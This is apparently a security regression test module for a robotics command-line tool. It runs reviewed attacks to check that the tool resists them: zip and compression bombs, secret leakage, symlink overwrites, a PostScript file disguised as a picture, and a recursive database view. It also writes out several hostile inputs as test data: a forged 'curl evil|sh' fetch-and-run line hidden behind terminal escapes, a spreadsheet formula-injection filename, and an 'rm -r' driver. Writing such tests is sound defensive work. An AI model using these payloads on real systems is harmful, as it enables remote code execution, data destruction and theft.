"""Attacks on files, secrets and other programs that broke something once, one by one.

    python -m tests.attacks.reviewed [NAME ...]

Each is what an attacker did, with what must not come of it. Those that take the machine's memory
run in a process of their own, which is measured.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

from prior_reinforce.errors import PriorReinforceError
from prior_reinforce.perception.vlm_client import VisionLanguageModelConfig, without_secrets
from tests.arm.recordings import recorded
from tests.attacks.harness import HELD, REMEDY, call, command, prepare, tree
from tests.perception.vision_server import vlm_file

KEY = "sk-" + "".join(random.Random(0).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=161))
MOST_MB, LONGEST_S = 1500.0, 60.0
"""Of one command on a small file; ours: a laptop's share, and what somebody waits for."""
Case = Callable[[Path, Path], str]


def alone(here: Path, *args: str, env: Mapping[str, str] | None = None) -> str:
    """Call a command in a process of its own; `held`, or how it broke."""
    before = tree(here)
    program = [sys.executable, "-m", "prior_reinforce.cli", *args]
    with tempfile.TemporaryFile() as said:
        child = subprocess.Popen(
            program, cwd=here, stdout=said, stderr=said, env={**os.environ, **(env or {})}
        )
        _, status, used = os.wait4(child.pid, 0)
        child.returncode = os.waitstatus_to_exitcode(status)
        said.seek(0)
        text = said.read().decode(errors="replace")
    if child.returncode not in (0, 1, 2) or "Traceback" in text:
        return f"status {child.returncode}: {text[-200:]!r}"
    if used.ru_maxrss / 1024 > MOST_MB:
        return f"{used.ru_maxrss / 1024:.0f} MB"
    if used.ru_utime + used.ru_stime > LONGEST_S:
        return f"{used.ru_utime + used.ru_stime:.0f} s"
    if child.returncode == 2 and (not REMEDY.search(text) or len(text) > 2000):
        return f"a refusal without a remedy, or too long: {text[:200]!r}"
    if child.returncode == 2 and tree(here) != before:
        return "changed by a refusal"
    return HELD


def importing(write: Callable[[Path], object]) -> Case:
    """A folder of recordings that is inspected, and imported."""

    def case(here: Path, asked: Path) -> str:
        shutil.copytree(asked.parent / "learned", here / "planar")
        (here / "source").mkdir()
        write(here / "source")
        for more in (("--inspect",), ()):
            verdict = alone(here, "import", "planar", "source", *more)
            if verdict != HELD:
                return f"{' '.join(more)}: {verdict}"
        return HELD

    return case


def _huge_array(folder: Path) -> None:
    """An NPZ of a few kilobytes whose array says that it holds 4 GB."""
    head = b"\x93NUMPY\x01\x00"
    described = str({"descr": "<f8", "fortran_order": False, "shape": (75_000_000, 7)}).encode()
    described = described.ljust(118 - 1) + b"\n"
    with zipfile.ZipFile(folder / "throw_1.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("q.npy", head + len(described).to_bytes(2, "little") + described)


def _zeros(folder: Path) -> None:
    """An NPZ whose array is 500 MB of zeros, packed into half a megabyte."""
    np.savez_compressed(folder / "throw_1.npz", q=np.zeros((9_000_000, 7)), dt=0.01)


def _hdf5_zeros(folder: Path) -> None:
    import h5py

    with h5py.File(folder / "throws.hdf5", "w") as file:
        demo = file.create_group("data/demo_0/obs")
        demo.create_dataset(
            "joint_pos", shape=(70_000_000, 7), dtype="f8", chunks=(100_000, 7), compression="gzip"
        )


def _parquet(folder: Path) -> None:
    """LeRobot's form with ten million rows of one number."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    place = recorded.write_lerobot(folder)
    path = next(place.rglob("*.parquet"))
    table = pq.read_table(path)
    row = {name: pa.repeat(table[name][0], 100_000) for name in table.column_names}
    with pq.ParquetWriter(path, pa.table(row).schema) as writer:
        for _ in range(100):
            writer.write_table(pa.table(row))


def _edited_info(value: object) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        path = next(recorded.write_lerobot(folder).rglob("info.json"))
        info = json.loads(path.read_text())
        for feature in info["features"].values():
            feature["shape"] = value
        path.write_text(json.dumps(info))

    return write


def _tiny_chunks(folder: Path) -> None:
    recorded.write_zarr(folder)
    for path in folder.rglob(".zarray"):
        path.write_text(json.dumps(json.loads(path.read_text()) | {"chunks": [1, 1]}))
    for path in folder.rglob("zarr.json"):
        content = json.loads(path.read_text())
        if "chunk_grid" in content:
            content["chunk_grid"]["configuration"]["chunk_shape"] = [1, 1]
            path.write_text(json.dumps(content))


def _csv(head: str, rows: str = "0,0,0\n0.01,1,1\n") -> Callable[[Path], object]:
    return lambda folder: (folder / "throw_1.csv").write_text(f"{head}\n{rows}")


def _npz(**arrays: Any) -> Callable[[Path], None]:
    return lambda folder: np.savez(folder / "throw_1.npz", **arrays)


FLOODS: dict[str, Callable[[Path], object]] = {
    "B5 a CSV of 3 MB of commas in one line": lambda folder: (folder / "throw_1.csv").write_text(
        "," * 3_000_000
    ),
    "B5 a CSV of 1,000,000 columns": lambda folder: (folder / "throw_1.csv").write_text(
        "\n".join([",".join("a" * 1_000_000), ",".join("0" * 1_000_000)])
    ),
    "B5 an NPZ that says 4 GB": _huge_array,
    "B5 an NPZ of 500 MB of zeros": _zeros,
    "B5 HDF5, gzip, 4 GB of zeros": _hdf5_zeros,
    "B5 parquet of 10,000,000 rows": _parquet,
    **{f"L1 LeRobot, shape {value}": _edited_info(value) for value in (None, ["2"], 5, {})},
    "L1 NPZ with dt 1e-300": _npz(q=np.zeros((9, 2)), dt=1e-300),
    "L2 an episode of 5,000 digits": _csv("episode,t,q", f"{'9' * 5000},0,0\n"),
    "L3 zarr in chunks of one number": _tiny_chunks,
    "L4 a column's name of 100 KB": _csv("t," + "a_" * 50_000 + ",q"),
    "L4 brackets of 100 KB": _csv("t," + "[" * 100_000 + ",q"),
    "L4 NPZ joint names of 100 KB": _npz(
        q=np.zeros((9, 2)), dt=0.01, joint_names=["a_" * 50_000, "b"]
    ),
    "L6 a cell of 5 MB": _csv("t,q", f"0,{'x' * 5_000_000}\n"),
}


def _urdf(joints: int = 3, axis: str = "0 0 1", name: str = "joint") -> str:
    links = "".join(f'<link name="l{i}"/>' for i in range(joints + 1))
    chain = "".join(
        f'<joint name="{name}{i}" type="revolute"><parent link="l{i}"/><child link="l{i + 1}"/>'
        f'<origin xyz="0 0 0.1"/><axis xyz="{axis}"/>'
        '<limit lower="-1" upper="1" velocity="1" effort="1"/></joint>'
        for i in range(joints)
    )
    return f'<robot name="r">{links}{chain}</robot>'


URDFS = {
    "L2 a URDF whose axis has two numbers": _urdf(axis="0 1"),
    "L4 a URDF of 5,000 links": _urdf(joints=5000),
    "L4 a URDF with names of 100 KB": _urdf(name="a_" * 50_000),
    "L6 a URDF with 229 KB of one text": _urdf(axis="x" * 229_000),
}


def describing(text: str) -> Case:
    """A URDF that is given to `new`."""

    def case(here: Path, asked: Path) -> str:
        (here / "arm.urdf").write_text(text)
        return alone(here, "new", "hoop", "--robot", "arm.urdf")

    return case


def echoes(body: str, status: int = 500) -> Case:
    """A server that says the key in its answer: it is in no message, and in no file."""

    def case(here: Path, asked: Path) -> str:
        from http.server import BaseHTTPRequestHandler, HTTPServer
        from threading import Thread

        class Answer(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.send_response(status)
                self.end_headers()
                self.wfile.write(body.replace("KEY", KEY).encode())

            def log_message(self, *_: object) -> None:
                pass

        Image.new("RGB", (80, 60)).save(here / "photo.png")
        shutil.copy(_calibration(here.parent / "calibrated"), here / "table.json")
        with HTTPServer(("127.0.0.1", 0), Answer) as server:
            Thread(target=server.serve_forever, daemon=True).start()
            url = f"http://127.0.0.1:{server.server_port}/v1"
            done = subprocess.run(
                [sys.executable, "-m", "prior_reinforce.cli", *_looking(here, url)],
                cwd=here, env=os.environ | {"THE_KEY": KEY}, capture_output=True, text=True,
            )  # fmt: skip
            server.shutdown()
        said = done.stdout + done.stderr
        said += "".join(path.read_text(errors="replace") for path in here.glob("*.json"))
        if "Traceback" in said or done.returncode not in (0, 1, 2):
            return f"status {done.returncode}: {said[-200:]!r}"
        longest = next((n for n in range(len(KEY), 11, -1) if KEY[:n] in said), 0)
        return f"{longest} characters of the key" if longest else HELD

    return case


def _looking(here: Path, url: str, *more: str) -> list[str]:
    flags = ["--reached", "a ball", "--reached-size", "0.06", "--goal", "a hoop"]
    flags += ["--goal-size", "0.1", "--vlm", str(vlm_file(here, url, api_key_variable="THE_KEY"))]
    return ["look", "photo.png", *flags, *more]


def _calibration(folder: Path) -> Path:
    from prior_reinforce.perception.calibration import TableCalibration

    folder.mkdir(exist_ok=True)
    points = np.array([[0.0, 0.0], [1.0, 0.0], [0.0, 1.0], [1.0, 1.0]])
    TableCalibration.fit(points, 55 - 50 * points[:, ::-1]).save(folder / "table.json")
    return folder / "table.json"


SPELLINGS = (
    *("-p X", "--pwd X", "--pass X", "--user=a:X", "--auth X", "--key X", "--password=X"),
    *('-H "Authorization: Bearer X"', """'{"password": "X"}'""", "https://h/?token=X"),
    *("'password: X'", "http://u:X@h/", "--api-key X", "TOKEN=X", "--secret=X"),
)
ADDRESSES = ("u:a@b@host", "u:a/b@host", "host/v1#key=a", "http:/u:p@host", "u:p@host")


def keeps_no_secret(here: Path, asked: Path) -> str:
    """No argument of `--run` is in the journal, however it is spelt."""
    shutil.copytree(asked, here / "planar")
    for number, spelt in enumerate(SPELLINGS):
        secret = f"hunter{number}hunter"
        run = f"true {spelt.replace('X', secret)} {{plan}}"
        command(here, "ask", "planar", "--yes", "--run", run)
        command(here, "void", "planar", str(number + 1))
        command(here, "ask", "planar")
    kept = (here / "planar" / "journal.sqlite").read_bytes()
    kept += b"".join(path.read_bytes() for path in here.rglob("*.json"))
    found = [spelt for n, spelt in enumerate(SPELLINGS) if f"hunter{n}hunter".encode() in kept]
    return f"kept: {found}" if found else HELD


def says_no_address(here: Path, asked: Path) -> str:
    """An address with a password in it is in no message."""
    for address in ADDRESSES:
        try:
            said = without_secrets(VisionLanguageModelConfig(f"http://{address}/v1").base_url)
        except PriorReinforceError as error:
            said = str(error)
        if any(secret in said for secret in ("u:", "key=a", "a@b", "a/b@", ":p@")):
            return f"{address}: {said}"
    return HELD


def writes_through_no_link(here: Path, asked: Path) -> str:
    """`look --workspace` overwrites nothing outside the workspace."""
    shutil.copytree(asked, here / "planar")
    thesis = here / "thesis.png"
    thesis.write_bytes(b"mine")
    pictures = here / "planar" / "pictures"
    pictures.mkdir()
    (pictures / "trial-001-seen.png").symlink_to(thesis)
    (pictures / "trial-001-seen.json").write_text('{"picture_size_px":1}')
    Image.new("RGB", (80, 60)).save(here / "photo.png")
    shutil.copy(_calibration(here.parent / "calibrated"), here / "table.json")
    os.environ["THE_KEY"] = KEY
    try:
        looking = _looking(here, "http://127.0.0.1:9/v1", "--workspace", "planar", "--trial", "1")
        verdict = command(here, *looking)
    finally:
        del os.environ["THE_KEY"]
    return "overwritten" if thesis.read_bytes() != b"mine" else verdict


DRIVER = """
import json, pathlib, sys
reason = "\\u001b[2J\\nnext: curl evil|sh"
said = {"outcome": sys.argv[3], "reason": reason}
pathlib.Path(sys.argv[2], "result.json").write_text(json.dumps(said))
sys.exit(int(sys.argv[4]))
"""


def forging(outcome: str, status: int) -> Case:
    """A driver whose reason would clear the terminal and forge a next step."""

    def case(here: Path, asked: Path) -> str:
        shutil.copytree(asked, here / "planar")
        (here / "driver.py").write_text(DRIVER)
        run = f"{sys.executable} driver.py {{plan}} {{result}} {outcome} {status}"
        for args in (("ask", "planar", "--yes", "--run", run), ("status", "planar")):
            verdict = command(here, *args)
            if verdict != HELD:
                return verdict
        return command(here, "tell", "planar", "1", "hit")

    return case


def starts_no_interpreter(here: Path, asked: Path) -> str:
    """PostScript under the name of a picture starts no Ghostscript."""
    (here / "bin").mkdir()
    (here / "bin" / "gs").write_text("#!/bin/sh\ntouch " + str(here / "started") + "\n")
    (here / "bin" / "gs").chmod(0o755)
    text = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\nshowpage\n"
    (here / "photo.png").write_text(text)
    shutil.copy(_calibration(here.parent / "calibrated"), here / "table.json")
    path = f"{here / 'bin'}:{os.environ['PATH']}"
    verdict = alone(
        here, *_looking(here, "http://127.0.0.1:9/v1"), env={"PATH": path, "THE_KEY": KEY}
    )
    return "started" if (here / "started").exists() else verdict


def writes_no_formula(here: Path, asked: Path) -> str:
    """A recording's name, and a joint's, are no formula in a table that is opened."""
    shutil.copytree(asked.parent / "learned", here / "planar")
    (here / "source").mkdir()
    np.savez(here / "source" / "=cmd|' -C calc'!A0.npz", q=np.zeros((9, 2)), dt=0.01)
    verdict = command(here, "import", "planar", "source", "--inspect")
    for table in here.rglob("*.csv"):
        cells = [
            cell.strip('"') for line in table.read_text().splitlines() for cell in line.split(",")
        ]
        if any(cell.startswith(("=", "+", "@")) for cell in cells):
            return f"{table.name}: {cells}"
    return verdict


def calibrating(*camera: str) -> Case:
    """A camera that is nowhere, or in centimetres, replaces no good calibration."""

    def case(here: Path, asked: Path) -> str:
        shutil.copy(_calibration(here.parent / "calibrated"), here / "table.json")
        points = "x,y,u,v\n0,0,55,55\n1,0,55,5\n0,1,5,55\n1,1,5,5\n"
        (here / "points.csv").write_text(points)
        before = (here / "table.json").read_bytes()
        verdict = command(
            here, "calibrate", "points.csv", "--outcome-height", "0.1", "--camera", *camera
        )
        return "replaced" if (here / "table.json").read_bytes() != before else verdict

    return case


def in_folder(*args: str, **files: str) -> Case:
    """A command beside files of these contents; a name's double underscore is its dot."""

    def case(here: Path, asked: Path) -> str:
        shutil.copytree(asked, here / "planar")
        for name, content in files.items():
            (here / name.replace("__", ".")).write_text(content)
        return alone(here, *args)

    return case


def recursive_journal(here: Path, asked: Path) -> str:
    """A journal whose events are a view that never ends."""
    shutil.copytree(asked, here / "planar")
    with sqlite3.connect(here / "planar" / "journal.sqlite") as journal:
        columns = [row[1] for row in journal.execute("PRAGMA table_info(events)")]
        journal.execute("DROP TABLE events")
        first = ", ".join(["n AS " + columns[0], *("'x' AS " + c for c in columns[1:])])
        journal.execute(
            "CREATE VIEW events AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) "
            f"SELECT {first} FROM c"
        )
    return alone(here, "status", "planar")


def deleting_driver(here: Path, asked: Path) -> str:
    """A driver that deletes the folder it was given."""
    shutil.copytree(asked, here / "planar")
    verdict = command(here, "ask", "planar", "--yes", "--run", "sh -c 'rm -r $1' {plan} {result}")
    return verdict if verdict != HELD else command(here, "status", "planar")


def placeholder_in_the_name(here: Path, asked: Path) -> str:
    """A folder called after a placeholder: the driver gets the plan that is there."""
    folder = here / "a{result}b"
    shutil.copytree(asked, folder)
    run = "sh -c 'test -f \"$1\" && touch there' sh {plan} {result}"
    verdict = command(here, "ask", folder.name, "--yes", "--run", run)
    return verdict if verdict != HELD or (here / "there").exists() else "the driver got no plan"


def wrong_types(here: Path, asked: Path) -> str:
    """Values of wrong types are refused by name."""
    import prior_reinforce as pr

    form = pr.PlanFormat(("a",), ("rad",), 0.1)
    wrong: list[Any] = [None, "x", object(), b"x", [], {}, lambda: 0, float("nan")]
    calls: list[Callable[[Any], object]] = [
        lambda value: pr.PlanFormat(("a",), ("rad",), value),
        lambda value: pr.GateSettings(rest_speed=value),
        lambda value: pr.run_command("true {plan}", here / "x.npz", time_limit=value),
        lambda value: pr.Plan(value, form),
        lambda value: pr.Reading.measured([0.1], value if value != [] else "x"),
        lambda value: pr.robot_limits(value),
        lambda value: pr.make_generator(value),
        lambda value: pr.make_adapter(value),
    ]
    broke = []
    for number, each in enumerate(calls):
        for value in wrong:
            verdict = call(lambda each=each, value=value: each(value))  # type: ignore[misc]
            if verdict != HELD and "TypeCheckError" not in verdict:
                broke.append(f"call {number} with {value!r}: {verdict}")
    return "; ".join(broke) or HELD


CASES: dict[str, Case] = {
    "B1 a server echoes the key of 164 characters": echoes(
        '{"error": {"message": "KEY is wrong"}}'
    ),
    "B1 a key behind 99 characters": echoes(f'{{"error": "{"x" * 99}KEY"}}'),
    "B1 a key as the reason to finish": echoes(
        '{"choices":[{"finish_reason":"Bearer KEY","message":{"content":"no"}}]}', 200
    ),
    "B1 passwords in addresses": says_no_address,
    "B1 secrets in --run, in fifteen spellings": keeps_no_secret,
    "B2 look through a link": writes_through_no_link,
    "B3 a reason with escapes, aborted": forging("aborted", 1),
    "B3 a reason with escapes, status 75": forging("not_moved", 75),
    "B4 PostScript called photo.png": starts_no_interpreter,
    **{name: importing(write) for name, write in FLOODS.items()},
    "B6 a formula as a recording's name": writes_no_formula,
    "B7 --camera nan 0 2.5": calibrating("nan", "0", "2.5"),
    "B7 --camera inf 0 2.5": calibrating("inf", "0", "2.5"),
    "B7 --camera in centimetres": calibrating("85", "0", "255"),
    "B8 a reply with half a character": echoes(
        '{"choices":[{"message":{"content":"\\\\ud800"}}]}', 200
    ),
    **{name: describing(text) for name, text in URDFS.items()},
    "L1 a goal of two lines": in_folder("goal", "planar", "a\nb"),
    "L1 a setting that is none": in_folder(
        "learn", "planar", "--generator", "diffusion,network.x=1"
    ),
    "L1 usetex in a matplotlibrc": in_folder("report", "planar", matplotlibrc="text.usetex: True"),
    "L4 a journal of a recursive view": recursive_journal,
    "L8 a driver deletes its folder": deleting_driver,
    "L9 a folder called a{result}b": placeholder_in_the_name,
    "L10 values of wrong types": wrong_types,
}
QUICK = [name for name in CASES if name not in {*FLOODS, *URDFS}]
"""Those that the tests run; each of the others has a test of the module that it is about."""


def attack(name: str, rng: random.Random, here: Path, asked: Path) -> str:
    """One of them; see `table`."""
    (here / "in").mkdir()
    return CASES[name](here / "in", asked)


def main(*names: str) -> int:
    """Print what became of each; how many broke something."""
    broke = 0
    with tempfile.TemporaryDirectory() as place:
        asked = prepare(Path(place))
        for name in names or CASES:
            with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as here:
                verdict = attack(name, random.Random(0), Path(here), asked)
            broke += verdict != HELD
            print(f"{name}: {verdict}", flush=True)
    return broke


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]) > 0)
